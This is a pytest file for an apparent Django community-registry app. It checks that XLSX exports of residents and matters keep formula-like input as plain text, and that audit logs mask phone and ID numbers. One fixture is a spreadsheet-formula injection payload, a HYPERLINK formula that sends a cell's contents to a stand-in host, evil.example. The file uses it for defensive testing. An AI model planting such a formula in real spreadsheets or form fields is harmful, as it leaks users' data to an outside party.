"""The XLSX exports of the registry and of the matters hold typed text as text, never as a
formula (a public filing reaches the staff's export), and their audit events hold no number typed
into a free-text filter."""

import io
from typing import cast

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from communitygate.audit.models import AuditEvent
from communitygate.matters.selectors.matters import MatterFilters
from communitygate.matters.services.matters import MatterIntake, matter_receive, matters_export
from communitygate.registry.exports import residents_export
from communitygate.registry.selectors.registry import ResidentFilters
from communitygate.registry.services.registry import ResidentFields, resident_add
from communitygate.registry.tests.grid_registry import id_number, person_in
from communitygate.testing import World

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&F2,"点击查看")'
MOBILE = "13912345678"
ID_NUMBER_TYPED = id_number(7)


def cells(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


def test_a_residents_name_that_looks_like_a_formula_is_exported_as_text(world: World) -> None:
    secretary = world.user("community_secretary")
    resident = person_in(secretary, world.org("community"), "居民", id_number(1))
    resident_add(
        actor=secretary,
        household=resident.household,
        fields=ResidentFields(name=LINK, sex="male", relation="other"),
    )
    content, count = residents_export(actor=secretary, filters=ResidentFilters())
    assert count == 2
    written = cells(content)
    assert (LINK, "s") in written
    assert all(data_type != "f" for _value, data_type in written)


def test_a_matters_summary_that_looks_like_a_formula_is_exported_as_text(world: World) -> None:
    worker = world.user("community_worker")
    matter_receive(
        actor=worker,
        intake=MatterIntake(
            community_code="370203031001",
            category_code="consultation",
            summary=LINK,
            location="=1+1",
            contact_name="@居民",
            phone=MOBILE,
        ),
    )
    content, count = matters_export(actor=worker, filters=MatterFilters())
    assert count == 1
    written = cells(content)
    assert (LINK, "s") in written and ("=1+1", "s") in written and ("@居民", "s") in written
    assert all(data_type != "f" for _value, data_type in written)


def test_the_registry_exports_event_masks_numbers_typed_as_text(world: World) -> None:
    secretary = world.user("community_secretary")
    person_in(secretary, world.org("community"), "居民", id_number(1))
    residents_export(
        actor=secretary,
        filters=ResidentFilters(query=f"{ID_NUMBER_TYPED} {MOBILE}", tag=MOBILE),
    )
    filters = AuditEvent.objects.get(action="resident.export").changes["filters"][1]
    assert ID_NUMBER_TYPED not in str(filters) and MOBILE not in str(filters)
    assert filters["query"] == f"{ID_NUMBER_TYPED[:6]}********{ID_NUMBER_TYPED[-4:]} 139****5678"
    assert filters["tag"] == "139****5678"


def test_the_matters_exports_event_masks_numbers_typed_as_text(world: World) -> None:
    worker = cast(User, world.user("community_worker"))
    matters_export(actor=worker, filters=MatterFilters(text=f"{MOBILE} 找 {ID_NUMBER_TYPED}"))
    filters = AuditEvent.objects.get(action="matter.export").changes["filters"][1]
    assert MOBILE not in str(filters) and ID_NUMBER_TYPED not in str(filters)
    assert filters["text"].startswith("139****5678 找 ")


def test_the_filters_audit_form_masks_every_typed_text() -> None:
    audit = ResidentFilters(
        query=MOBILE, tag=MOBILE, community=MOBILE, id_number=ID_NUMBER_TYPED, phone=MOBILE
    ).as_audit()
    assert MOBILE not in str(audit) and ID_NUMBER_TYPED not in str(audit)
    assert MatterFilters(text=MOBILE, assignee=MOBILE).as_audit() == {
        "text": "139****5678",
        "assignee": "139****5678",
    }
